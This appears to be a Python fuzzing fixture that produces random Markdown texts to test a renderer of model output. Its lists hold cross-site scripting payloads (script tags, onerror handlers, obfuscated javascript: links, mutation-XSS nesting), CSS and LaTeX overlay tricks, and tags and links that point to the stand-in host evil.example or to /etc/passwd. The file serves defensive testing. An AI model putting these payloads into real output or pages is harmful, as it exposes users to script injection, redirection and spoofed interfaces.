"""Texts that a model could be made to write: Markdown with hostile HTML, styles, links and formulas."""

import random
from collections.abc import Iterator

HTML = [
    "<script>window.harm = 1</script>",
    "<img src=x onerror='window.harm = 1'>",
    "<svg/onload='window.harm = 1'>",
    "<style>* { display: none }</style>",
    "<svg><style>#input { position: fixed }</style></svg>",
    "<div style='position:fixed;inset:0;z-index:99;background:red'>",
    "<link rel=stylesheet href=https://evil.example>",
    "<iframe srcdoc='<script>parent.harm = 1</script>'>",
    "<iframe src=https://evil.example>",
    "<base href=//evil.example>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<form action=//evil.example><input name=x autofocus>",
    "<math><mtext><table><mglyph><style><img src=x onerror='window.harm = 1'>",
    "<a id=input name=app>",
    "<p id=messages>",
    "<noscript><p title='</noscript><img src=x onerror=window.harm=1>'>",
    "<template><script>window.harm = 1</script>",
    "<video src=//evil.example/v onerror='window.harm = 1'>",
    "<object data=//evil.example>",
    "</p></div></article>",
    "<!--",
    "-->",
    "<![CDATA[",
    "<?php",
    "&lt;script&gt;",
    "&#106;avascript:",
    "<custom-element onclick='window.harm=1'>",
]
LINKS = [
    "[a](javascript:window.harm=1)",
    "[a](data:text/html,<script>alert(1)</script>)",
    "![i](javascript:window.harm=1)",
    "![i](https://evil.example/x.png)",
    '[x](https://a.example/"onmouseover="window.harm=1)',
    "<https://a.example>",
    "<javascript:window.harm=1>",
    "[b](  JaVaScRiPt:window.harm=1)",
    "[c](java\tscript:window.harm=1)",
    "[ref]",
    "[ref]: javascript:window.harm=1\n",
    "[ref]: https://a.example 'title'\n",
    "[d](vbscript:x)",
    "[e](file:///etc/passwd)",
    "[f](//evil.example)",
    "[g](\x01javascript:window.harm=1)",
    "https://evil.example/a?b=c",
    "![][ref]",
    "<a@b.example>",
    "[h](blob:https://evil.example/1)",
    "[i](&#x6A;avascript:window.harm=1)",
]
FORMULAS = [
    r"\(\href{javascript:window.harm=1}{x}\)",
    r"\(\includegraphics{https://evil.example/x.png}\)",
    r"\(\kern{-900em} x\)",
    r"\(\rule{900em}{900em}\)",
    r"\(\raisebox{900em}{x}\)",
    r"\(\hspace{-900em} y\)",
    r"\(\htmlClass{said}{x}\)",
    r"\(\id{input} x\)",
    r"\(\style{position:fixed}{x}\)",
    r"\(\color{red;position:fixed} x\)",
    r"\[\frac{a}{b}\]",
    r"$$\begin{matrix} 1 & 2 \\[900em] 3 & 4 \end{matrix}$$",
    r"\(\colorbox{red}{x}\)",
    r"\(\def\a{\a\a}\a\)",
    r"\(\mathllap{xxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxx}\)",
    r"\(\unicode{x3c}script\)",
    r"\(\text{<img src=x onerror=1>}\)",
    r"\(\data{a=b}{x}\)",
    r"\(\url{javascript:window.harm=1}\)",
    r"\(\Huge x\)",
    r"\(\smash{\rule{1em}{90em}}\)",
]
MARKS = [
    "**",
    "*",
    "_",
    "__",
    "~~",
    "||",
    "`",
    "```",
    "```html\n",
    "```css\n",
    "~~~py x='<b>'\n",
    "\n",
    "\n\n",
    "> ",
    "- ",
    "1. ",
    "# ",
    "| a | b |\n|---|:-:|\n",
    "\\",
    "---\n",
    "- [x] ",
    "    ",
    "\t",
]
WORDS = ["a", "中文，", "「日本語」", "🙂", "\u202e", "\u0000", "word " * 30, "長" * 80, "👨\u200d👩", "\u0300" * 9]


def hostile_texts(count: int, seed: int = 7) -> Iterator[str]:
    """Return ``count`` texts of up to 14 pieces each, the same ones for the same ``seed``."""
    draw = random.Random(seed)
    kinds = (HTML, LINKS, FORMULAS, MARKS, MARKS, WORDS)
    for _ in range(count):
        yield "".join(draw.choice(draw.choice(kinds)) for _ in range(draw.randint(1, 14)))
